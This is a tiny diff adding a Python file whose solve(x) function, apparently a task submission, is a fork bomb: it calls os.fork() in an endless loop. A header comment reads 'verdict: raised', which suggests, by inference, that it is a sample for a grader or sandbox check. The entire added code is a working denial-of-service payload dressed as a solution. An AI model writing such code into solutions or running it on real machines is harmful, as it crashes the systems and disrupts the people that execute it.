@@ -1,0 +1,7 @@
+# verdict: raised
+import os
+
+
+def solve(x):
+    while True:
+        os.fork()
